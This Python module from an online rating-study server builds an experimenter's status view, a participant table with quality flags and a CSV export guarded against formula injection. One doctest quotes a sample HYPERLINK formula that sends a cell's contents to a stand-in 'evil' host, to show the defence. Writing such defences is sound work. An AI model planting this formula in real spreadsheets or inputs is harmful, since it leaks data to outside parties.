"""The experimenter's status: who started, finished or dropped out, and how well timed.

:func:`study_status` makes the view (``GET api/admin/status``) from what the
database holds, :func:`participant_table` one row per participant (``GET
admin/participants.csv``: what an experimenter needs to approve or reject a
submission on a crowd platform), :func:`status_page` the page of both (``GET
admin``); all pure, the reading is :class:`~.service.OnlineStudy`'s. The page also
shows the live load of the process that answers it (the status's ``load``,
:meth:`.metrics.LoadWindow.view`), when the status has one. :func:`participant_table_csv`
writes the table as the CSV an experimenter opens in a spreadsheet, each text cell made
safe by :func:`spreadsheet_cell`.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable, Sequence
from typing import TYPE_CHECKING

import numpy as np

from sbir_study.foundation.html import render

from ..protocol import Protocol, Timing
from .plausibility import planned_timeline_s, shortest_timeline_s

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "EARLY_KEYS_MAX_SHARE",
    "EARLY_KEY_S",
    "FLAGS",
    "FORMULA_STARTS",
    "PARTICIPANT_COLUMNS",
    "participant_table",
    "participant_table_csv",
    "spreadsheet_cell",
    "status_page",
    "study_status",
]

#: The columns of the participant table (``admin/participants.csv``), in order.
PARTICIPANT_COLUMNS = (
    "participant",
    "source_id",
    "list",
    "status",
    "trials_stored",
    "trials_planned",
    "missed_windows",
    "timing_error_median_ms",
    "started",
    "ended",
    "completion_code",
    "trials_refused",
    "refusals",
    "wall_time_s",
    "planned_time_s",
    "rt_median_s",
    "early_key_share",
    "n_catch_failed",
    "flag",
)
#: A rating key this soon after the pair's onset (s) comes before a person can have seen
#: the pair: a simple reaction to a light takes about 0.2 s.
EARLY_KEY_S = 0.150
#: A participant whose share of rated trials with an early key is above this is flagged.
EARLY_KEYS_MAX_SHARE = 0.10
#: The reasons of the participant table's ``flag``, each with what raises it.
FLAGS = {
    "too_fast": "wall_time_s below the shortest time its trials can take on a real page",
    "early_keys": f"early_key_share above {EARLY_KEYS_MAX_SHARE:g}",
    "catch_failed": "a catch pair rated outside the ratings that pass",
}
#: The first characters that make a spreadsheet read a cell as a formula (OWASP's "CSV
#: injection"): ``=``, ``+``, ``-``, ``@``, tab and carriage return.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def study_status(
    protocol: Protocol,
    study_id: int,
    *,
    list_pairs: Sequence[int],
    sessions: Iterable[tuple[str, int, bool, int]],
    durations: Sequence[tuple[str, float, float]],
    trials_stored: int,
    trials_refused: int = 0,
    latest_refusals: Iterable[tuple[str, int | None, int, str, float]] = (),
) -> dict:
    """Participants started, complete, quit, timed out, dropped out, running; trials stored
    and refused; timing.

    Parameters
    ----------
    protocol, study_id
        The study.
    list_pairs
        The number of pairs of each list, in list order.
    sessions
        ``(status, list, silent, count)``: how many sessions of a list (its index
        from 0; the view numbers lists from 1) have a status, ``silent`` when not
        heard from within ``online.dropout_after_s`` (a running one that is silent
        has dropped out).
    durations
        ``(phase, stim_duration, blank_duration)`` of the trials the timing
        errors are measured over (the latest ones).
    trials_stored
        Every trial stored in the study.
    trials_refused
        Every trial report of a session's own page the server refused.
    latest_refusals
        ``(participant, trial, status, reason, refused_at)`` of the latest refusals,
        newest first (``refused`` in the view; ``at`` in UTC, ISO 8601).

    Examples
    --------
    >>> view = study_status(Protocol(), 1, list_pairs=[8], trials_stored=2,
    ...     sessions=[("running", 0, False, 1), ("running", 0, True, 2), ("complete", 0, False, 1)],
    ...     durations=[("main", 2.004, 0.998), ("anchor_demo", 3.0, 1.0)])
    >>> view["participants"]
    {'started': 4, 'complete': 1, 'incomplete': 0, 'timed_out': 0, 'dropped_out': 2, 'running': 1}
    >>> view["lists"], view["timing_error_ms"]["stimulus_max"]
    ([{'list': 1, 'complete': 1, 'running': 1, 'pairs': 8}], 4.0)
    """
    counts = dict.fromkeys(_COUNTED, 0)
    per_list = {k: {"complete": 0, "running": 0} for k in range(len(list_pairs))}
    for status, index, silent, count in sessions:
        counted = "dropped_out" if status == "running" and silent else status
        counts["started"] += count
        counts[counted] += count
        if counted in ("complete", "running"):
            per_list.setdefault(index, {"complete": 0, "running": 0})[counted] += count
    return {
        "study": protocol.name,
        "study_id": study_id,
        "participants": counts,
        "trials_stored": int(trials_stored),
        "trials_refused": int(trials_refused),
        "refused": [
            {"participant": p, "trial": t, "status": int(c), "error": r, "at": _utc(when)}
            for p, t, c, r, when in latest_refusals
        ],
        # Numbered from 1, as the page, the session's state and the export's sidecar number them.
        "lists": [
            {"list": k + 1, **v, "pairs": list_pairs[k]}
            for k, v in sorted(per_list.items())
            if k < len(list_pairs)
        ],
        "timing_error_ms": _timing_errors(durations, protocol.timing),
    }


#: The participants the status counts, in the view's order.
_COUNTED = ("started", "complete", "incomplete", "timed_out", "dropped_out", "running")
#: The timing errors of the status, after ``n_trials``.
_TIMING_ERRORS = ("stimulus_median", "stimulus_max", "blank_median", "blank_max", "median")


def _timing_errors(rows: Sequence, timing: Timing) -> dict:
    """Median and max |measured - planned| of the stimulus and blank durations (ms)."""
    if not rows:
        return {"n_trials": 0, **dict.fromkeys(_TIMING_ERRORS, None)}
    phases = np.array([r[0] for r in rows])
    planned = np.where(phases == "anchor_demo", timing.anchor_demo_s, timing.stimulus_s)
    stim = np.abs(np.array([r[1] for r in rows], dtype=float) - planned) * 1000.0
    blank = np.abs(np.array([r[2] for r in rows], dtype=float) - timing.blank_s) * 1000.0
    both = np.concatenate([stim, blank])
    return {
        "n_trials": len(rows),
        "stimulus_median": round(float(np.median(stim)), 3),
        "stimulus_max": round(float(stim.max()), 3),
        "blank_median": round(float(np.median(blank)), 3),
        "blank_max": round(float(blank.max()), 3),
        "median": round(float(np.median(both)), 3),
    }


# Over 80 lines for its docstring, which defines every column an experimenter approves
# by; the code builds one row per session from measures made per session beforehand.
def participant_table(
    protocol: Protocol,
    sessions: pd.DataFrame,
    trials: pd.DataFrame,
    *,
    silent_since: float,
    code_of: Callable[[str], str | None],
    refusals: pd.DataFrame | None = None,
) -> pd.DataFrame:
    """One row per participant, in the order they started (:data:`PARTICIPANT_COLUMNS`).

    Parameters
    ----------
    protocol
        The study's protocol (the planned durations, the catch pairs).
    sessions
        The study's sessions: ``id, participant, source_id, list_index, status,
        n_trials, created_at, last_seen_at, finished_at``.
    trials
        Their stored trials: ``session_id, phase, sketch_id, image_id, rating, rt,
        presses, stim_duration, blank_duration``.
    silent_since
        A running session not heard from since this time (epoch seconds) has
        dropped out (``status`` ``dropped_out``), as in :func:`study_status`.
    code_of
        The code of a session's ending, from its status (``complete``, ``incomplete``:
        quit, ``timed_out``), or None.
    refusals
        The trial reports of their pages the server refused, in the order they came:
        ``session_id, trial, status, reason`` (None: none).

    Notes
    -----
    ``missed_windows`` counts the trials that asked for a rating and got none
    (no rating key before the response window closed; the anchor demonstrations
    ask for none). ``timing_error_median_ms`` is the median of |measured -
    planned| over the participant's stimulus and blank durations together, as
    the status's ``timing_error_ms.median`` is over the study's. ``list`` is
    numbered from 1; ``started`` and ``ended`` are UTC, ISO 8601.
    ``trials_refused`` counts the participant's trial reports the server refused
    (each one its page set aside, never to send again; at most
    :data:`~.storage.MAX_REFUSALS_PER_SESSION` kept a session, the rest in serve's log),
    ``refusals`` says which and why: ``trial N (STATUS): reason``, joined by ``; ``.

    What an experimenter checks before approving (:func:`_conduct`): ``wall_time_s``,
    the session's time on the server's clock (its start to its end, or to its last
    trial stored while it runs), against ``planned_time_s``, the planned stimulus and
    blank durations of its stored trials; ``rt_median_s``, the median response time of
    its rated trials; ``early_key_share``, the share of its rated trials whose first
    rating key came within :data:`EARLY_KEY_S` of the pair's onset; ``n_catch_failed``,
    the protocol's catch pairs it rated outside the ratings that pass (main block, as
    pressed, as ``analyze`` scores them); and ``flag``, each reason of :data:`FLAGS`
    that holds, joined by ``;`` (empty: none).

    Examples
    --------
    >>> import pandas as pd
    >>> sessions = pd.DataFrame({"id": ["s1"], "participant": ["P1"], "source_id": ["P-1"],
    ...     "list_index": [0], "status": ["running"], "n_trials": [3], "created_at": [0.0],
    ...     "last_seen_at": [6.0], "finished_at": [None]})
    >>> trials = pd.DataFrame({"session_id": ["s1", "s1"], "phase": ["main", "main"],
    ...     "sketch_id": "s", "image_id": ["i1", "i2"], "rating": [3, None],
    ...     "rt": [0.1, None], "presses": ["3@0.1000", None],
    ...     "stim_duration": [2.0, 2.01], "blank_duration": [1.0, 1.0]})
    >>> table = participant_table(Protocol(), sessions, trials, silent_since=0.0,
    ...     code_of=lambda status: None)
    >>> table[["status", "trials_stored", "missed_windows", "timing_error_median_ms",
    ...     "wall_time_s", "planned_time_s", "early_key_share", "flag"]].iloc[0]
    status                       running
    trials_stored                      2
    missed_windows                     1
    timing_error_median_ms           0.0
    wall_time_s                      6.0
    planned_time_s                   6.0
    early_key_share                  0.5
    flag                      early_keys
    Name: 0, dtype: object
    """
    import pandas as pd

    timing = protocol.timing
    trials = trials.assign(
        missed=trials["rating"].isna() & (trials["phase"] != "anchor_demo"),
        planned=np.where(trials["phase"] == "anchor_demo", timing.anchor_demo_s, timing.stimulus_s),
    )
    # Each trial's stimulus and blank errors together, per session.
    errors = pd.concat(
        [
            (trials["stim_duration"] - trials["planned"]).abs() * 1000.0,
            (trials["blank_duration"] - timing.blank_s).abs() * 1000.0,
        ],
        ignore_index=True,
    )
    ids = trials["session_id"].to_numpy()
    median = errors.groupby(np.concatenate([ids, ids])).median().round(3)
    grouped = trials.groupby("session_id")
    stored = grouped.size()
    missed = grouped["missed"].sum()
    conduct = _conduct(protocol, trials)
    refused: dict[str, list[str]] = {}
    if refusals is not None:
        for row in refusals.itertuples(index=False):
            trial = "?" if row.trial is None or pd.isna(row.trial) else int(row.trial)
            refused.setdefault(row.session_id, []).append(
                f"trial {trial} ({int(row.status)}): {row.reason}"
            )
    rows, shortest = [], []
    for session in sessions.sort_values(["created_at", "participant"]).itertuples(index=False):
        measures = dict(conduct.get(session.id, _NO_TRIALS))
        shortest.append(measures.pop("shortest_s"))
        status = session.status
        if status == "running" and session.last_seen_at < silent_since:
            status = "dropped_out"
        error = median.get(session.id)
        finished = session.finished_at
        ended = session.last_seen_at if finished is None or pd.isna(finished) else finished
        rows.append(
            {
                "participant": session.participant,
                "source_id": session.source_id,
                "list": int(session.list_index) + 1,
                "status": status,
                "trials_stored": int(stored.get(session.id, 0)),
                "trials_planned": int(session.n_trials),
                "missed_windows": int(missed.get(session.id, 0)),
                "timing_error_median_ms": None if error is None else float(error),
                "started": _utc(session.created_at),
                "ended": "" if finished is None or pd.isna(finished) else _utc(finished),
                "completion_code": code_of(status) or "",
                "trials_refused": len(refused.get(session.id, [])),
                "refusals": "; ".join(refused.get(session.id, [])),
                "wall_time_s": round(float(ended - session.created_at), 3),
                **measures,
            }
        )
    table = pd.DataFrame(rows, columns=list(PARTICIPANT_COLUMNS))
    raised = zip(
        table["wall_time_s"].to_numpy(float) < np.array(shortest, dtype=float),
        table["early_key_share"].to_numpy(float) > EARLY_KEYS_MAX_SHARE,  # NaN: not raised
        table["n_catch_failed"].to_numpy(int) > 0,
        strict=True,
    )
    table["flag"] = [";".join(n for n, up in zip(FLAGS, row, strict=True) if up) for row in raised]
    return table


#: The measures of :func:`_conduct` of a participant with no trial stored.
_NO_TRIALS = {
    "planned_time_s": 0.0,
    "rt_median_s": None,
    "early_key_share": None,
    "n_catch_failed": 0,
    "shortest_s": 0.0,
}


def _conduct(protocol: Protocol, trials: pd.DataFrame) -> dict[str, dict]:
    """Per session (its id), what its stored ``trials`` say of how it was done: the
    planned and the shortest possible time of its trials, its median response time, its
    share of early keys and its catch pairs failed (see :func:`participant_table`)."""
    import pandas as pd

    if trials.empty:
        return {}
    rated = trials["phase"] != "anchor_demo"
    first_press = _first_press(trials["presses"])
    catch = {(pair.sketch_id, pair.image_id): pair for pair in protocol.catch}
    failed = []
    for phase, sketch_id, image_id, rating in zip(
        trials["phase"], trials["sketch_id"], trials["image_id"], trials["rating"], strict=True
    ):
        pair = catch.get((sketch_id, image_id)) if phase == "main" else None
        failed.append(
            pair is not None and pd.notna(rating) and not pair.lowest <= rating <= pair.highest
        )
    trials = trials.assign(
        early=rated & (first_press < EARLY_KEY_S),
        rated=rated,
        rated_rt=trials["rt"].where(rated),
        failed=failed,
    )
    conduct = {}
    for session_id, mine in trials.groupby("session_id"):
        n_rated = int(mine["rated"].sum())
        rt = mine["rated_rt"].dropna()
        conduct[session_id] = {
            "planned_time_s": round(planned_timeline_s(mine["phase"], protocol.timing), 3),
            "rt_median_s": round(float(rt.median()), 4) if len(rt) else None,
            "early_key_share": round(float(mine["early"].sum()) / n_rated, 4) if n_rated else None,
            "n_catch_failed": int(mine["failed"].sum()),
            "shortest_s": shortest_timeline_s(mine["phase"], protocol.timing),
        }
    return conduct


def _first_press(presses: pd.Series) -> pd.Series:
    """The time of each trial's first rating key from the pair's onset (s; NaN: none), from
    its ``presses`` (``rating@seconds``, in time order)."""
    first = presses.fillna("").astype(str).str.split(" ", n=1).str[0]
    return first.str.partition("@")[2].replace("", "nan").astype(float)


def spreadsheet_cell(value: object) -> object:
    """A cell as a spreadsheet may show it: text that begins with one of
    :data:`FORMULA_STARTS` gets a ``'`` before it, so that it is read as text and never run
    as a formula (OWASP, "CSV Injection"); anything else, numbers included (-0.5 stays a
    number), is returned as it is.

    Examples
    --------
    >>> print(spreadsheet_cell('=HYPERLINK("https://evil/?"&A2,"approve")'))
    '=HYPERLINK("https://evil/?"&A2,"approve")
    >>> spreadsheet_cell("-0.5"), spreadsheet_cell(-0.5), spreadsheet_cell("P-1")
    ("'-0.5", -0.5, 'P-1')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def participant_table_csv(table: pd.DataFrame) -> str:
    """The participant table (:func:`participant_table`) as the CSV of ``GET
    admin/participants.csv``: every cell of a column that is not numeric through
    :func:`spreadsheet_cell`; lines end with CR LF (RFC 4180), so that a cell holding a
    line break of either kind is quoted and never splits its row."""
    from pandas.api.types import is_numeric_dtype

    safe = table.copy()
    for column in safe.columns:
        if not is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(spreadsheet_cell)
    return safe.to_csv(index=False, lineterminator="\r\n")


def _utc(epoch: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(epoch))


def status_page(status: dict, participants: pd.DataFrame | None = None) -> str:
    """The status (:func:`study_status`) and the participant table
    (:func:`participant_table`, when given) as the status page
    (``templates/status.html.jinja``).

    Examples
    --------
    >>> page = status_page({"study": "demo", "study_id": 1, "trials_stored": 0, "lists": [],
    ...     "participants": {"started": 0, "complete": 0, "incomplete": 0, "timed_out": 0,
    ...                      "dropped_out": 0, "running": 0},
    ...     "timing_error_ms": {"n_trials": 0, "median": None}})
    >>> "<h1>demo" in page
    True
    """
    table = None
    if participants is not None:
        table = {
            "columns": list(participants.columns),
            "rows": [
                ["" if _missing(value) else value for value in row]
                for row in participants.itertuples(index=False)
            ],
        }
    return render(
        "sbir_study.study.online",
        "status.html.jinja",
        status=status,
        simulated=None,
        load=status.get("load"),
        lists=[(e["list"], e["pairs"], e["complete"], e["running"]) for e in status["lists"]],
        refused=[
            ["" if entry[key] is None else entry[key] for key in _REFUSAL_KEYS]
            for entry in status.get("refused", [])
        ],
        participants=table,
        ms=_ms,
    )


#: The columns of the status page's refused trials, in order.
_REFUSAL_KEYS = ("at", "participant", "trial", "status", "error")


def _missing(value: object) -> bool:
    """Whether a participant-table value is missing (None or NaN): an empty cell."""
    return value is None or (isinstance(value, float) and np.isnan(value))


def _ms(value: float | None) -> str:
    """A duration in milliseconds as the page writes it ("2.0 ms"; "n/a" for none)."""
    return "n/a" if value is None else f"{value:.1f} ms"
